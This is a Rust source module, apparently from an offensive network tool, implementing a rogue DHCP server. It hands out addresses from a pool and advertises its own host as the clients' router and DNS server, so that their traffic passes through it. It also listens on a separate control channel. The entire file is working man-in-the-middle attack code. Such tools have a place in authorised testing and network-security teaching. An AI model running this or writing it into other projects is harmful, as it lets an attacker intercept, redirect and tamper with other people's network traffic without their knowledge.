//! Rogue DHCP server
//!
//! Answers every Discover with the next address from a [`LeaseAllocator`]
//! and names itself as router, DNS server and server identifier, so any client
//! that binds to it sends its traffic through this host.

pub mod allocator;

#[cfg(test)]
mod tests;

pub use allocator::LeaseAllocator;

use crate::{
    config::{RequestPolicy, ServerConfig},
    control,
    error::DhcpError,
    network::{self, Transport},
    v4::{DhcpMessage, DhcpOption, MessageType, Opcode, OptionCode, OptionsBuilder},
};
use std::{
    collections::HashMap,
    net::{Ipv4Addr, SocketAddr},
};

enum Inbound {
    Dhcp((usize, SocketAddr)),
    Control((usize, SocketAddr)),
}

pub struct RogueServer {
    config: ServerConfig,
    allocator: LeaseAllocator,
    /// Offered address per xid, kept only under [`RequestPolicy::OfferedOnly`].
    /// Holds at most one entry per pool address and is emptied on exhaustion.
    offers: HashMap<u32, Ipv4Addr>,
}

impl RogueServer {
    pub fn new(config: ServerConfig) -> Result<Self, DhcpError> {
        config.validate()?;
        let allocator =
            LeaseAllocator::new(config.server_ip, config.pool_start, config.pool_end)?;
        Ok(Self {
            config,
            allocator,
            offers: HashMap::new(),
        })
    }

    pub fn allocator(&self) -> &LeaseAllocator {
        &self.allocator
    }

    pub fn config(&self) -> &ServerConfig {
        &self.config
    }

    /// Offers still waiting for their Request under [`RequestPolicy::OfferedOnly`].
    pub fn pending_offers(&self) -> usize {
        self.offers.len()
    }

    /// Decodes one inbound frame and builds the reply, if any.
    ///
    /// `Ok(None)` means the message is ignored by design; errors describe why
    /// a message was dropped and are never fatal.
    pub fn handle(&mut self, data: &[u8]) -> Result<Option<DhcpMessage>, DhcpError> {
        let msg = DhcpMessage::decode(data)?;
        self.handle_message(&msg)
    }

    pub fn handle_message(
        &mut self,
        msg: &DhcpMessage,
    ) -> Result<Option<DhcpMessage>, DhcpError> {
        if msg.opcode() != Opcode::BootRequest {
            return Ok(None);
        }
        if self.allocator.is_exhausted() {
            return Err(self.allocator.exhausted_error());
        }

        let kind = match msg.message_type() {
            Ok(kind) => kind,
            Err(DhcpError::OptionNotFound(_)) => return Ok(None),
            Err(e) => return Err(e),
        };

        match kind {
            MessageType::Discover => {
                tracing::info!("DISCOVER from {}", format_hw(msg.hardware_addr()));
                self.offer(msg).map(Some)
            }
            MessageType::Request => {
                tracing::info!("REQUEST from {}", format_hw(msg.hardware_addr()));
                self.acknowledge(msg)
            }
            other => {
                tracing::debug!("Ignoring {:?} from {}", other, format_hw(msg.hardware_addr()));
                Ok(None)
            }
        }
    }

    fn offer(&mut self, discover: &DhcpMessage) -> Result<DhcpMessage, DhcpError> {
        let offered = self.allocator.allocate()?;
        if self.allocator.is_exhausted() {
            // No Request is answered once the pool is empty.
            self.offers.clear();
        } else if self.config.request_policy == RequestPolicy::OfferedOnly {
            self.offers.insert(discover.xid(), offered);
        }
        tracing::info!(
            "Offering {} ({} left in pool)",
            offered,
            self.allocator.remaining()
        );
        self.reply(discover, MessageType::Offer, offered)
    }

    fn acknowledge(&mut self, request: &DhcpMessage) -> Result<Option<DhcpMessage>, DhcpError> {
        // The granted address comes from the Request itself, not from server state.
        let requested = match request.typed_option(OptionCode::RequestedIpAddress) {
            Ok(DhcpOption::RequestedIpAddress(ip)) => ip,
            Err(DhcpError::OptionNotFound(_)) => {
                tracing::debug!("REQUEST without a requested address, ignoring");
                return Ok(None);
            }
            Err(e) => return Err(e),
            Ok(_) => return Ok(None),
        };

        if self.config.request_policy == RequestPolicy::OfferedOnly {
            match self.offers.get(&request.xid()) {
                Some(offered) if *offered == requested => {
                    self.offers.remove(&request.xid());
                }
                _ => {
                    tracing::warn!(
                        "Ignoring REQUEST for {} without a matching offer (xid {:#010x})",
                        requested,
                        request.xid()
                    );
                    return Ok(None);
                }
            }
        }

        tracing::info!("Granting {}", requested);
        self.reply(request, MessageType::Ack, requested).map(Some)
    }

    fn reply(
        &self,
        request: &DhcpMessage,
        kind: MessageType,
        yiaddr: Ipv4Addr,
    ) -> Result<DhcpMessage, DhcpError> {
        let own = self.config.server_ip;
        let options = OptionsBuilder::new()
            .insert(DhcpOption::MessageType(kind))
            .insert(DhcpOption::Router(own))
            .insert(DhcpOption::AddressLeaseTime(self.config.lease_time))
            .insert(DhcpOption::ServerIdentifier(own))
            .insert(DhcpOption::DomainNameServer(own))
            .finish()?;

        let mut reply = request.clone();
        reply
            .set_opcode(Opcode::BootReply)
            .set_ciaddr(Ipv4Addr::UNSPECIFIED)
            .set_giaddr(Ipv4Addr::UNSPECIFIED)
            .set_yiaddr(yiaddr)
            .set_siaddr(own)
            .set_options(options)?;
        Ok(reply)
    }

    async fn serve_packet<T: Transport>(&mut self, dhcp: &T, data: &[u8], from: SocketAddr) {
        let reply = match self.handle(data) {
            Ok(Some(reply)) => reply,
            Ok(None) => return,
            Err(e @ DhcpError::PoolExhausted { .. }) => {
                tracing::warn!("Ignoring packet from {}: {}", from, e);
                return;
            }
            Err(e) => {
                tracing::debug!("Dropping packet from {}: {}", from, e);
                return;
            }
        };

        let packet = reply.encode();
        let target = self.config.client_target();
        if let Err(e) = network::send_with_retry(dhcp, &packet, target, &self.config.retry).await {
            tracing::error!("Reply to {} lost: {}", format_hw(reply.hardware_addr()), e);
        }
    }

    /// Serves DHCP requests and logs control-channel messages until a receive fails.
    pub async fn run<T: Transport, C: Transport>(
        &mut self,
        dhcp: &T,
        side_channel: &C,
    ) -> Result<(), DhcpError> {
        tracing::info!(
            "Rogue DHCP server {} offering {}..={}",
            self.config.server_ip,
            self.allocator.first(),
            self.allocator.last()
        );

        let mut buf = [0u8; 1500];
        let mut text = [0u8; control::MAX_MESSAGE_LEN];
        loop {
            let inbound = tokio::select! {
                received = dhcp.recv_from(&mut buf) => Inbound::Dhcp(received?),
                received = side_channel.recv_from(&mut text) => Inbound::Control(received?),
            };

            match inbound {
                Inbound::Dhcp((len, from)) => {
                    self.serve_packet(dhcp, &buf[..len], from).await;
                }
                Inbound::Control((len, from)) => control::log_message(&text[..len], from),
            }
        }
    }
}

fn format_hw(addr: &[u8]) -> String {
    addr.iter()
        .map(|octet| format!("{octet:02x}"))
        .collect::<Vec<_>>()
        .join(":")
}
